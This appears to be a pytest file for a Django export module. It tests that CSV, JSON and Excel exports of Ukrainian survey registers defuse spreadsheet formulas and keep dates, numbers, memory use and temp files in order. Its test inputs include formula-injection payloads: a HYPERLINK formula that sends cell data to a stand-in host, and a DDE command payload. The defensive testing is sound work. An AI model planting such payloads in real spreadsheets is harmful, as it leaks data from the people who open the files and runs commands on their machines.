"""Files that leave the site: what a spreadsheet makes of them, and what it must not."""

import csv
import json
import tempfile
import tracemalloc
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO, StringIO
from pathlib import Path
from typing import Any

import pytest
from django.core.signals import request_finished
from django.db import close_old_connections
from django.utils import translation
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from community.core.exports.cells import csv_cell
from community.core.exports.delimited import csv_stream
from community.core.exports.notation import json_stream
from community.core.exports.responses import book_response
from community.core.exports.sheets import CHUNK_SIZE, Book, Sheet
from community.core.exports.workbook import xlsx_file


@pytest.fixture(autouse=True)
def _no_database() -> Iterator[None]:
    """The end of an answer looks at database connections, as Django's own test client prevents."""
    request_finished.disconnect(close_old_connections)
    yield
    request_finished.connect(close_old_connections)


HOSTILE = [
    "=1+1",
    "+380671234567",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    '=HYPERLINK("https://evil.example/?"&A1;"натисніть")',
    "=cmd|'/C calc'!A0",
]


def sheet_of(*values: Any) -> Sheet:
    return Sheet("Учасники опитувань", ["Значення"], ([value] for value in values))


def read_csv(sheet: Sheet) -> list[list[str]]:
    return list(csv.reader(StringIO(b"".join(csv_stream(sheet)).decode("utf-8-sig"), newline=""), delimiter=";"))


def read_json(*sheets: Sheet, title: str = "Звіт") -> Any:
    return json.loads(b"".join(json_stream(Book(title, sheets))))


def xlsx_of(sheet: Sheet) -> Any:
    return xlsx_file(Book.of(sheet))


def read_xlsx(content: Any) -> list[tuple[Any, ...]]:
    return [tuple(cell for cell in row) for row in load_workbook(content).worksheets[0].iter_rows()]


def test_csv_is_what_a_ukrainian_excel_opens_by_double_click() -> None:
    content = b"".join(csv_stream(Sheet("Реєстр", ["Питання", "Голос"], [["Парк; сквер", 'каже «так» і "ні"']])))
    assert content == '\ufeffПитання;Голос\r\n"Парк; сквер";"каже «так» і ""ні"""\r\n'.encode()


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_a_csv_is_a_formula(text: str) -> None:
    assert read_csv(sheet_of(text))[1] == [f"'{text}"]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_value_of_json_becomes_a_formula_where_a_spreadsheet_takes_it_in(text: str) -> None:
    assert read_json(sheet_of(text)) == [{"Значення": f"'{text}"}]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_a_workbook_is_a_formula(text: str) -> None:
    [cell] = read_xlsx(xlsx_of(sheet_of(text)))[1]
    assert cell.data_type != "f"
    assert cell.value.replace("\r", "\n").replace("_x000D_", "\n") == text.replace("\r", "\n")
    assert cell.quotePrefix


def test_headings_cannot_smuggle_a_formula_either() -> None:
    sheet = Sheet("Реєстр", ["=1+1"], [])
    assert read_csv(sheet) == [["'=1+1"]]
    assert list(read_json(Sheet("Реєстр", ["=1+1"], [["так"]]))[0]) == ["'=1+1"]
    assert read_xlsx(xlsx_of(sheet))[0][0].data_type == "s"


@pytest.mark.parametrize("value", [-5, 0, 3.5, True])
def test_numbers_stay_numbers(value: Any) -> None:
    assert read_xlsx(xlsx_of(sheet_of(value)))[1][0].value == value
    assert read_csv(sheet_of(value))[1] == [str(value)]
    assert read_json(sheet_of(value)) == [{"Значення": value}]


def test_a_price_is_a_number_and_what_is_no_number_leaves_json_valid() -> None:
    values = (Decimal("-12.50"), float("nan"), float("inf"), None)
    assert [row["Значення"] for row in read_json(sheet_of(*values))] == [-12.5, None, None, None]
    assert read_csv(sheet_of(Decimal("-12.50")))[1] == ["-12.50"]
    assert [cell.value for cell in read_xlsx(xlsx_of(Sheet("Реєстр", "абвг", [values])))[1]] == [
        -12.5,
        None,
        None,
        None,
    ]


def test_control_characters_do_not_break_the_file() -> None:
    text = "до\x00 і\x0bпісля\ud800\ufffe"
    assert read_csv(sheet_of(text))[1] == ["до іпісля"]
    assert read_json(sheet_of(text)) == [{"Значення": "до іпісля"}]
    assert read_xlsx(xlsx_of(sheet_of(text)))[1][0].value == "до іпісля"


@pytest.mark.parametrize(
    ("moment", "kyiv", "offset"),
    [
        (datetime(2026, 1, 31, 22, 30, 5, tzinfo=UTC), datetime(2026, 2, 1, 0, 30, 5), "+02:00"),  # noqa: DTZ001 - naive is meant
        (datetime(2026, 7, 31, 21, 30, 5, tzinfo=UTC), datetime(2026, 8, 1, 0, 30, 5), "+03:00"),  # noqa: DTZ001 - naive is meant
    ],
)
def test_times_are_those_of_kyiv_in_winter_and_summer(moment: datetime, kyiv: datetime, offset: str) -> None:
    cell = read_xlsx(xlsx_of(sheet_of(moment)))[1][0]
    assert (cell.value, cell.is_date, cell.number_format) == (kyiv, True, "dd.mm.yyyy hh:mm:ss")
    assert read_csv(sheet_of(moment))[1] == [f"{kyiv:%d.%m.%Y %H:%M:%S}"]
    [row] = read_json(sheet_of(moment))
    assert row["Значення"] == kyiv.isoformat() + offset
    assert datetime.fromisoformat(row["Значення"]) == moment


def test_a_day_is_a_date_that_excel_can_sort() -> None:
    cell = read_xlsx(xlsx_of(sheet_of(date(2026, 8, 24))))[1][0]
    assert (cell.value, cell.is_date, cell.number_format) == (datetime(2026, 8, 24), True, "dd.mm.yyyy")  # noqa: DTZ001 - a day has no zone
    assert csv_cell(date(2026, 8, 24)) == "24.08.2026"
    assert read_json(sheet_of(date(2026, 8, 24))) == [{"Значення": "2026-08-24"}]


def test_empty_values_are_empty_cells() -> None:
    sheet = Sheet("Реєстр", ["А", "Б"], [[None, "так"]])
    assert read_csv(sheet)[1] == ["", "так"]


def test_the_language_of_the_request_outlives_the_request() -> None:
    rows = [[gettext_lazy("Yes")]] * (CHUNK_SIZE + 1)
    with translation.override("uk"):
        stream = csv_stream(Sheet("Реєстр", ["Відповідь"], rows))
    with translation.override("en"):
        lines = b"".join(stream).decode("utf-8-sig").splitlines()
    assert set(lines[1:]) == {"Так"}


def test_the_file_is_named_by_register_and_day_in_latin_letters() -> None:
    response = book_response(Book.of(sheet_of("так")), "xlsx")
    name = response["Content-Disposition"]
    response.close()
    assert name.startswith('attachment; filename="uchasnyky-opytuvan-20')
    assert name.endswith('.xlsx"')


def test_a_register_too_long_for_one_page_of_excel_goes_on_in_the_next() -> None:
    book = load_workbook(xlsx_file(Book.of(sheet_of("а", "б", "в")), rows_per_sheet=2))
    assert [[cell.value for cell in page["A"]] for page in book] == [["Значення", "а", "б"], ["Значення", "в"]]


def test_json_of_one_table_is_an_array_of_objects_in_readable_ukrainian() -> None:
    content = b"".join(
        json_stream(Book.of(Sheet("Реєстр", ["Питання", "Голосів"], [["Парк «Дружба»", 7], ["Міст", 0]])))
    )
    assert content.decode() == (
        '[\n{"Питання": "Парк «Дружба»", "Голосів": 7},\n{"Питання": "Міст", "Голосів": 0}\n]\n'
    )
    assert json.loads(b"".join(json_stream(Book.of(sheet_of())))) == []


def test_json_of_several_tables_keeps_them_apart_and_in_order() -> None:
    days = Sheet("За днями", ["День", "Голосів"], ([date(2026, 8, day), day] for day in range(1, 3)))
    assert read_json(sheet_of("так", "=1"), days, sheet_of(), title="@Лавки") == {
        "title": "'@Лавки",
        "sheets": [
            {"title": "Учасники опитувань", "headings": ["Значення"], "rows": [["так"], ["'=1"]]},
            {"title": "За днями", "headings": ["День", "Голосів"], "rows": [["2026-08-01", 1], ["2026-08-02", 2]]},
            {"title": "Учасники опитувань", "headings": ["Значення"], "rows": []},
        ],
    }


def test_columns_of_one_name_lose_no_value_in_json() -> None:
    sheet = Sheet("Реєстр", ["Дата", "Дата", "Дата"], [["а", "б", "в"]])
    assert read_json(sheet) == [{"Дата": "а", "Дата (2)": "б", "Дата (3)": "в"}]


def test_rows_of_json_meet_across_chunks() -> None:
    rows = [[number] for number in range(2 * CHUNK_SIZE + 1)]
    assert [row["Номер"] for row in read_json(Sheet("Реєстр", ["Номер"], rows))] == list(range(2 * CHUNK_SIZE + 1))


def test_a_workbook_of_several_tables_has_a_page_for_each() -> None:
    sheets = [sheet_of("так", "ні"), Sheet("За днями", ["День", "Голосів"], [["1", 5]]), sheet_of("=1+1")]
    book = load_workbook(xlsx_file(Book("Звіт", sheets), rows_per_sheet=1))
    assert [[[cell.value for cell in row] for row in page] for page in book] == [
        [["Значення"], ["так"]],
        [["Значення"], ["ні"]],
        [["День", "Голосів"], ["1", 5]],
        [["Значення"], ["=1+1"]],
    ]
    assert book.sheetnames == ["Учасники опитувань", "Учасники опитувань1", "За днями", "Учасники опитувань2"]
    assert book.worksheets[3]["A2"].data_type == "s"


def broken_rows() -> Iterator[list[str]]:
    yield ["перший"]
    raise RuntimeError("the database went away")


def test_a_failed_export_leaves_no_file_behind(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    with pytest.raises(RuntimeError, match="the database went away"):
        xlsx_of(Sheet("Реєстр", ["А"], broken_rows()))
    assert list(tmp_path.iterdir()) == []


def test_a_sent_workbook_leaves_no_file_behind(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    response = book_response(Book.of(sheet_of("так")), "xlsx")
    content = b"".join(response)
    response.close()
    assert read_xlsx(BytesIO(content))[1][0].value == "так"
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("file_format", ["csv", "json"])
def test_a_client_that_goes_away_stops_the_reading(file_format: str) -> None:
    state = {"read": 0, "closed": False}

    def rows() -> Iterator[list[int]]:
        try:
            for number in range(100_000):
                state["read"] = number
                yield [number]
        finally:
            state["closed"] = True

    response = book_response(Book.of(Sheet("Реєстр", ["А"], rows())), file_format)
    chunks = iter(response)
    next(chunks)
    next(chunks)
    del chunks
    response.close()
    assert state["closed"]
    assert state["read"] < 2 * CHUNK_SIZE


def peak_of(work: Any) -> int:
    tracemalloc.start()
    try:
        work()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize("file_format", ["csv", "json", "xlsx"])
def test_memory_does_not_grow_with_the_register(file_format: str) -> None:
    def export(rows: int) -> int:
        def work() -> None:
            sheet = Sheet("Реєстр", ["А", "Б"], ([f"вулиця Шевченка, {number}", number] for number in range(rows)))
            response = book_response(Book.of(sheet), file_format)
            for _piece in response:
                pass
            response.close()

        return peak_of(work)

    export(10)
    small, large = export(1_000), export(10_000)
    assert large < small + 1_000_000
